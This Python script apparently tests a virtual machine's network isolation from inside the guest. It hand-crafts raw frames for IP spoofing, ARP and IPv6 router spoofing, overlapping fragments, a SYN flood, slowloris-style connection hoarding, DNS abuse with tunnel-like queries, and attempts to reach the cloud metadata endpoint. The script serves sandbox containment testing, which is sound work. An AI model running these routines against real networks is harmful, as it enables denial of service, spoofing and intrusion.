"""What a hostile root does to its network; runs inside the guest: `python3 attacks.py ATTACK`, prints one JSON object.

Frames are made by hand and sent past the guest's own kernel, so that nothing but what stands outside can stop them.
"""

import contextlib
import fcntl
import json
import os
import socket
import struct
import sys
import threading
import time

GATEWAY, GUEST = "198.18.0.1", "198.18.0.2"
HOST, GOOD, PRIVATE, METADATA = "203.0.113.1", "93.184.216.34", "10.9.8.7", "169.254.169.254"
BROADCAST, STRANGER = b"\xff" * 6, bytes.fromhex("02d500000009")
IP, ARP, IP6, VLAN = 0x0800, 0x0806, 0x86DD, 0x8100
CARD = next(name for name in sorted(os.listdir("/sys/class/net")) if os.path.exists(f"/sys/class/net/{name}/device"))


def own_mac():
    with open(f"/sys/class/net/{CARD}/address") as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))


def card():
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    raw.bind((CARD, 0))
    return raw


def gateway_mac():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (GATEWAY, 9))
    for _ in range(50):
        with open("/proc/net/arp") as file:
            for line in file:
                if line.startswith(GATEWAY + " ") and "00:00:00:00:00:00" not in line:
                    return bytes.fromhex(line.split()[3].replace(":", ""))
        time.sleep(0.1)
    raise SystemExit("the gateway did not answer ARP")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source, target, protocol, body, *, fragment=0, ttl=64, options=b""):
    words = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(body), 7, fragment, ttl, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def tcp(source, target, port, flags=2, number=1, own=40000):
    body = struct.pack("!HHIIBBHHH", own, port, number, 0, 0x50, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(body))
    return ip(source, target, 6, body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:])


def udp(source, target, port, body=b"hello", own=40000):
    return ip(source, target, 17, struct.pack("!HHHH", own, port, 8 + len(body), 0) + body)


def arp(operation, mac, source, target):
    return (
        struct.pack("!HHBBH", 1, IP, 6, 4, operation)
        + mac
        + socket.inet_aton(source)
        + b"\0" * 6
        + socket.inet_aton(target)
    )


def ip6(target, protocol, body, source="fe80::d5"):
    head = struct.pack("!IHBB", 6 << 28, len(body), protocol, 255)
    return head + socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target) + body


def icmp6(target, kind, body):
    source = socket.inet_pton(socket.AF_INET6, "fe80::d5")
    message = struct.pack("!BBH", kind, 0, 0) + body
    pseudo = source + socket.inet_pton(socket.AF_INET6, target) + struct.pack("!IHBB", len(message), 0, 0, 58)
    return ip6(target, 58, message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:])


def frames(gateway):
    """Every frame, as (to whom, kind of frame, what)."""
    own = own_mac()
    outside = (HOST, GOOD, PRIVATE, METADATA, "203.0.113.2", "255.255.255.255", "224.0.0.251", "127.0.0.1", GATEWAY)
    for target in outside:
        for source in ("10.0.0.1", HOST, "127.0.0.1", GATEWAY, "0.0.0.0", "198.18.0.3", GOOD, "224.0.0.1"):
            yield gateway, IP, tcp(source, target, 80)
            yield gateway, IP, udp(source, target, 53)
            yield BROADCAST, IP, udp(source, target, 67)
        for mac in (gateway, BROADCAST, STRANGER, bytes.fromhex("01005e0000fb")):
            yield mac, IP, udp(GUEST, target, 5353)
            yield mac, IP, udp(GUEST, target, 443)
            for protocol in (1, 2, 4, 41, 47, 50, 89, 132, 255):  # ICMP, IGMP, IP in IP, 6in4, GRE, ESP, OSPF, SCTP
                yield mac, IP, ip(GUEST, target, protocol, b"\x08\0\xf7\xff" + b"\0" * 40)
        # an inner packet that claims to be from elsewhere, source routes, fragments that end up on one another
        yield gateway, IP, ip(GUEST, target, 4, tcp(HOST, target, 22))
        yield gateway, IP, ip(GUEST, target, 41, ip6("2606:4700::1234", 59, b""))
        yield (
            gateway,
            IP,
            ip(
                GUEST,
                target,
                17,
                b"\x9c\x40\0\x35\0\x0c\0\0abcd",
                options=b"\x83\x0b\x04" + socket.inet_aton(PRIVATE) * 2 + b"\0",
            ),
        )
        yield gateway, IP, ip(GUEST, target, 6, b"\x9c\x40\0\x50" + b"\0" * 4, fragment=0x2000)
        yield gateway, IP, ip(GUEST, target, 6, b"\0" * 8 + b"\x50\x02" + b"\0" * 6, fragment=1)
        yield gateway, IP, ip(GUEST, target, 17, b"\0" * 64, fragment=0x1FFF)
        yield (
            gateway,
            IP,
            ip(GUEST, target, 1, b"\x05\x01\0\0" + socket.inet_aton(GUEST) + udp(target, GUEST, 53)),
        )  # redirect
        yield gateway, IP, tcp(GUEST, target, 80, flags=0x12)
        yield gateway, IP, tcp(GUEST, target, 80, flags=0x04)
        yield gateway, IP, tcp(GUEST, target, 80, flags=0xFF)
        yield gateway, VLAN, struct.pack("!HH", 5, IP) + tcp(GUEST, target, 80)
    for source in (GATEWAY, HOST, "203.0.113.2", PRIVATE, GUEST, "0.0.0.0"):
        for target in (GATEWAY, HOST, GUEST, "198.18.0.3", "255.255.255.255"):
            yield BROADCAST, ARP, arp(1, own, source, target)
            yield gateway, ARP, arp(2, own, source, target)
            yield gateway, ARP, arp(2, gateway, source, target)
    for target in ("ff02::1", "ff02::2", "ff02::fb", "fe80::1", "::1", "2606:4700::1234", "::ffff:10.9.8.7"):
        for mac in (gateway, BROADCAST, bytes.fromhex("333300000001")):
            yield mac, IP6, icmp6(target, 128, b"\0\x01\0\x01ping")
            yield mac, IP6, icmp6(target, 133, b"\0" * 4)
            yield mac, IP6, icmp6(target, 134, struct.pack("!BBHII", 64, 0, 1800, 0, 0))  # "I am the router"
            yield (
                mac,
                IP6,
                icmp6(
                    target,
                    136,
                    struct.pack("!I", 0x60000000) + socket.inet_pton(socket.AF_INET6, "fe80::1") + b"\x02\x01" + own,
                ),
            )
            yield mac, IP6, ip6(target, 17, struct.pack("!HHHH", 546, 547, 13, 0) + b"hello")
            yield mac, IP6, ip6(target, 6, tcp(GUEST, GOOD, 80)[20:])
            yield mac, IP6, ip6(target, 0, b"\x3a\0\x05\x02\0\0\0\0" * 8)
            yield mac, IP6, ip6(target, 44, b"\x3a\0\0\x01\0\0\0\x07" + b"\0" * 16)
    for kind in (0x0000, 0x88CC, 0x8863, 0x8892, 0x9000, 0x88A8, 0xFFFF):
        yield BROADCAST, kind, os.urandom(64)
    for size in (0, 1, 19, 20, 21, 33, 1400):
        yield gateway, IP, os.urandom(size)
        yield gateway, IP, b"\x45" + os.urandom(size)
        yield gateway, IP6, os.urandom(size)
        yield gateway, ARP, os.urandom(size)


def raw():
    """All those frames, three times; whoever answered, by (kind of frame, protocol, source)."""
    gateway, own = gateway_mac(), own_mac()
    sender, sent, heard, refused = card(), 0, set(), 0
    over = threading.Event()

    def listen():
        ear = card()
        ear.settimeout(0.2)
        while not over.is_set():
            try:
                frame = ear.recv(4096)
            except TimeoutError:
                continue
            if frame[6:12] == own:
                continue
            kind = struct.unpack_from("!H", frame, 12)[0]
            if kind == IP:
                heard.add(("ip", frame[23], socket.inet_ntoa(frame[26:30])))
            elif kind == ARP:
                heard.add(("arp", frame[21], socket.inet_ntoa(frame[28:32])))
            else:
                heard.add((hex(kind), 0, frame[6:12].hex()))

    listener = threading.Thread(target=listen)
    listener.start()
    for _ in range(3):
        for mac, kind, body in frames(gateway):
            try:
                sender.send(mac + own + struct.pack("!H", kind) + body)
                sent += 1
            except OSError:  # the card's own limits: too long, too short, no room
                refused += 1
        time.sleep(0.5)
    time.sleep(1)
    over.set()
    listener.join()
    return {"sent": sent, "refused": refused, "heard": sorted(heard)}


def flood():
    """Half-open connections: 20,000 SYNs that nobody goes on with, from every port, to every address."""
    gateway, own = gateway_mac(), own_mac()
    sender, sent = card(), 0
    until = time.monotonic() + 60
    for number in range(20000):
        if time.monotonic() > until:
            break
        target = f"93.184.{number >> 8 & 255}.{number & 255}"
        try:
            sender.send(
                gateway + own + struct.pack("!H", IP) + tcp(GUEST, target, 80, number=number, own=1024 + number)
            )
            sent += 1
        except OSError:
            time.sleep(0.01)
    return {"sent": sent}


def reach(targets, seconds=5.0):
    """Where a connection came to say anything: address:port of each that answered with more than an end."""
    reached = []

    def one(address, port):
        try:
            with socket.create_connection((address, port), seconds) as connection:
                connection.settimeout(seconds)
                connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
                if connection.recv(100):
                    reached.append(f"{address}:{port}")
        except OSError:
            pass

    waiting = [threading.Thread(target=one, args=target) for target in targets]
    for begin in range(0, len(waiting), 40):
        for thread in waiting[begin : begin + 40]:
            thread.start()
        for thread in waiting[begin : begin + 40]:
            thread.join()
    return sorted(reached)


def connect(*ports):
    """TCP to all that should be shut: the host, what is beside it, the gateway's own ports."""
    numbers = [int(port) for port in ports]
    hosts = [HOST, "203.0.113.2", "127.0.0.1", "127.0.0.53", PRIVATE, METADATA, "0.0.0.0", "100.64.0.1", "192.168.1.1",
             "172.17.0.1", "198.18.0.3", "198.18.0.0", "198.19.0.1", "240.0.0.1", "169.254.1.1"]  # fmt: skip
    outside = [(host, port) for host in hosts if not host.startswith("127.") for port in (80, *numbers)]
    own = [(GATEWAY, port) for port in (1, 22, 53, 80, 111, 443, 2049, 3128, 5353, 8080, *numbers)]
    return {"reached": reach([*outside, *own]), "tried": len(outside) + len(own)}


def moved():
    """As another host of other networks: with another address and route, and with another MAC."""
    reached = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        for address in ("203.0.113.9", "10.9.8.6", "198.18.0.1", "127.0.0.2"):
            place = struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(address))
            request = struct.pack("16s16s8x", f"{CARD}:1".encode(), place)
            fcntl.ioctl(control, 0x8916, request)
            for target, port in ((HOST, 80), (PRIVATE, 80), (METADATA, 80), (GOOD, 80)):
                with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
                    sock.settimeout(1)
                    try:
                        sock.bind((address, 0))
                        sock.connect((target, port))
                        sock.sendall(b"GET / HTTP/1.1\r\nHost: good.example.org\r\n\r\n")
                        if sock.recv(100):
                            reached.append(f"{address} {target}:{port}")
                    except OSError:
                        pass
            fcntl.ioctl(control, 0x8914, struct.pack("16sH22x", f"{CARD}:1".encode(), 0))
    return {"reached": reached}


def names():
    """Lookups made to hurt: what came back for names that lead inside, and how many answers garbage got."""

    def ask(question):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(3)
            sock.sendto(question, (GATEWAY, 53))
            try:
                return sock.recv(4096)
            except OSError:
                return b""

    def question(name, kind=1):
        labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
        return b"\x13\x37\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)

    def answers(asked):
        """How many records the answer has."""
        return struct.unpack_from("!H", ask(asked).ljust(8, b"\0"), 6)[0]

    told = {name: answers(question(name)) for name in (
        "rebind.example.org", "metadata.example.org", "loop.example.org", "good.example.org")}  # fmt: skip
    for kind in (252, 251, 255, 65, 64, 16, 0, 65535):
        ask(question("good.example.org", kind))
    loops = (b"\xc0\x0c", b"\xc0\xff", b"\x3f" * 300, b"\xff" * 60, b"\x40", b"")
    for body in loops:
        ask(b"\x13\x37\x01\0\0\x01\0\0\0\0\0\0" + body)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(3000):
            sock.sendto(question(f"{'x' * 60}.{number}.tunnel.example.org", 16), (GATEWAY, 53))
    with socket.create_connection((GATEWAY, 53), 5) as sock, contextlib.suppress(OSError):
        sock.sendall(b"\xff\xff" + os.urandom(65535))
    return {"told": told}


def hoard(seconds):
    """As many connections as it gets, each with half a request, held for so long; how many it held."""
    held, until = [], time.monotonic() + float(seconds)
    while time.monotonic() < until and len(held) < 900:
        try:
            sock = socket.create_connection((GOOD, 80), 2)
            sock.sendall(b"GET / HTTP/1.1\r\nHost: good.example.org\r\nX: " + b"y" * 4000)
            held.append(sock)
        except OSError:
            time.sleep(0.05)
    time.sleep(max(0.0, until - time.monotonic()))
    return {"held": len(held)}


if __name__ == "__main__":
    attack = {"raw": raw, "flood": flood, "connect": connect, "moved": moved, "names": names, "hoard": hoard}
    print(json.dumps(attack[sys.argv[1]](*sys.argv[2:])))
